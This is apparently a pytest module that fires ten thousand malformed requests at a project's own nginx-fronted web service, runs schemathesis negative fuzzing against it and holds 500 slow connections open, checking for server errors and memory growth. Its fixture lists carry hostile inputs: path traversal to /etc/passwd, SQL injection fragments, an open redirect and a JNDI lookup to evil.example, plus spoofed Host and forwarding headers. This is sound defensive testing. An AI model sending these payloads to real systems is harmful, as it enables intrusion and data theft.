"""Ten thousand hostile requests: none is answered with a fault of the server, and memory stays flat."""

import contextlib
import os
import random
import re
import socket
import subprocess
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.faults.site import HOST, ROOT, Site, children

AT_ONCE = 48
"""Requests under way: many wait until nginx gives up on what they promised and never sent."""
TRICKS = int(os.environ.get("HOSTILE", "10000"))
EXAMPLES = 12
"""Generated requests for each operation of the API's description."""
PATHS = [
    *("/", "/participants/", "/articles/65/", "/admin/login/", "/static/tracker.css", "/healthz", "/readyz"),
    *("/metrics", "/api/v1/", "/api/v1/participants/VNM/", "/api/v1/treaties/hanoi/status/"),
    "/api/v1/treaties/hanoi/actions/",
]
ENDINGS = [
    *(
        "",
        "?",
        "%00",
        "?as_of=%00",
        "%ff",
        "?a=%ff%fe",
        "//",
        "/./",
        "~",
        "#x",
        "';--",
        ";x=y",
        "%c0%ae%c0%ae/",
    ),
    *("%2e%2e%2f%2e%2e%2fetc/passwd", "../../../etc/passwd", "..%5c..%5cwindows", "?next=//evil.example"),
    *("?as_of=2026-13-45", "?as_of=0000-00-00", "?as_of=9999-12-31", "?as_of[]=1", "?as_of=1;drop table"),
    *("?revision=-1", "?revision=99999999999999999999", "?revision=1e3", "?revision=%D9%A1%D9%A2"),
    *("?page=9999999999999", "?page_size=0", "?format=%s%n%x", "?limit=1/0", "?ordering=__class__"),
    *("?participant__user__password=x", "?as_of=2026-01-01&as_of=2026-02-02"),
    *("?" + "a=b&" * 1500, "a" * 4000, "?q=" + "%F0%9F%92%A9" * 300),
]
HEADERS = [
    *("X-Forwarded-For: 127.0.0.1", "X-Forwarded-Proto: http", "X-Forwarded-Host: evil.example"),
    *("X-Original-URL: /admin/", "X-HTTP-Method-Override: DELETE", "Forwarded: for=_hidden;proto=http"),
    *(
        "X-Request-ID: ${jndi:ldap://evil.example/a}",
        "Host: evil.example",
        "Referer: \x80\x81",
        "Origin: null",
    ),
    *("Cookie: sessionid=" + "x" * 2000, "Cookie: csrftoken=%00; ;;=", "Authorization: Bearer " + "A" * 3000),
    *("Authorization: Basic !!!", "Accept: application/xml", "Accept: " + "*/*;q=0.1," * 300),
    *("Accept-Language: " + "en-" * 400, "Accept-Encoding: gzip;q=nan", "If-None-Match: " + '"x",' * 300),
    *("If-Modified-Since: yesterday", "Range: bytes=0-0,1-1,2-", "Content-Type: application/x-yaml"),
    *("Transfer-Encoding: chunked", "Content-Length: 5", "Content-Length: -1", "Expect: 100-continue"),
    *("Connection: upgrade", "Upgrade: h2c", "TE: trailers", "HX-Request: true"),
]
METHODS = [
    *["GET"] * 8,
    "POST",
    "PUT",
    "PATCH",
    "DELETE",
    "HEAD",
    "OPTIONS",
    "TRACE",
    "PROPFIND",
    "get",
    "\x01",
]
PROXY_REFUSES = {501, 505}
"""nginx' own answers to what is no request of HTTP/1.1 that it knows; no web process sees these."""


def trick(chance: random.Random) -> bytes:
    """One request that no honest client sends."""
    method, path, ending = chance.choice(METHODS), chance.choice(PATHS), chance.choice(ENDINGS)
    body = b"" if method in {"GET", "HEAD"} else b"\xff\x00{]" * chance.choice([0, 1, 50])
    lines = [f"{method} {path}{ending} HTTP/1.1", f"Host: {HOST}", "Connection: close"]
    lines += chance.sample(HEADERS, chance.randrange(4))
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join(lines).encode("latin-1") + b"\r\n\r\n" + body


def ask(site: Site, request: bytes) -> int:
    """Send the bytes; returns the status, 0 where the connection was closed without one."""
    with contextlib.suppress(OSError), socket.create_connection(site.address, timeout=60) as connection:
        connection.sendall(request)
        found = re.match(rb"HTTP/1\.[01] (\d{3})", connection.recv(100))
        return int(found[1]) if found else 0
    return 0


def play(site: Site, count: int, seed: int) -> Counter[int]:
    """Send many tricks, some at a time; returns how often each status was answered."""
    statuses: Counter[int] = Counter()

    def some(number: int) -> None:
        chance = random.Random(seed * 100 + number)  # noqa: S311 - the same tricks each time
        for _ in range(count // AT_ONCE):
            statuses[ask(site, trick(chance))] += 1

    threads = [threading.Thread(target=some, args=(number,)) for number in range(AT_ONCE)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return statuses


def memory(site: Site) -> int:
    """Megabytes that the web processes hold."""
    found = [pid for parent in site.pids("web") for pid in (parent, *children(parent))]
    pages = sum(int(Path(f"/proc/{pid}/statm").read_text().split()[1]) for pid in found)
    return pages * os.sysconf("SC_PAGE_SIZE") // 1_000_000


def test_tricks_are_refused_and_memory_stays_flat(site: Site, figures: Callable[..., None]) -> None:
    first = play(site, TRICKS // 2, 1)
    half_way = memory(site)
    statuses = first + play(site, TRICKS // 2, 2)
    after = memory(site)
    figures("hostile", statuses=dict(sorted(statuses.items())), mb_half_way=half_way, mb_after=after)
    assert [status for status in statuses if status >= 500 and status not in PROXY_REFUSES] == []
    assert after <= half_way * 1.1
    assert site.get("/").status == 200


def test_what_schemathesis_makes_up_is_refused(site: Site, figures: Callable[..., None]) -> None:
    address = f"http://{site.address[0]}:{site.address[1]}/api/v1"
    made = subprocess.run(
        [
            *(
                str(Path(sys.executable).parent / "schemathesis"),
                "run",
                f"{address}/schema/",
                "--url",
                address,
            ),
            *("--header", f"Host:{HOST}", "--mode", "negative", "--phases", "coverage,fuzzing"),
            *("-n", str(EXAMPLES), "--checks", "not_a_server_error", "--generation-allow-x00", "true"),
            *("--seed", "1", "--request-timeout", "60", "--continue-on-failure"),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    generated = re.search(r"([\d,]+) generated", made.stdout)
    figures("made up by schemathesis", requests=generated and generated[1])
    assert generated, made.stdout[-3000:] + made.stderr[-3000:]
    assert made.returncode == 0, made.stdout[-3000:]


def test_body_that_is_too_long_is_refused_unread(site: Site) -> None:
    head = f"POST /admin/login/ HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 50000000\r\n\r\n".encode()
    assert ask(site, head + b"x" * 1000) == 413


def test_slow_clients_delay_nobody(site: Site, figures: Callable[..., None]) -> None:
    if not site.has_nginx:
        pytest.skip("nginx is not installed.")
    with contextlib.ExitStack() as stack:
        for _ in range(500):
            slow = stack.enter_context(socket.create_connection(site.address, timeout=60))
            slow.sendall(f"GET / HTTP/1.1\r\nHost: {HOST}\r\nX-Slow: ".encode())
        begun = time.monotonic()
        assert [site.get("/healthz").status for _ in range(20)] == [200] * 20
        figures("slow clients", connections=500, seconds_of_others=round((time.monotonic() - begun) / 20, 3))
        with contextlib.suppress(ConnectionResetError):
            assert slow.recv(1000)[:12] in {b"", b"HTTP/1.1 408"}, "nginx gives them up"
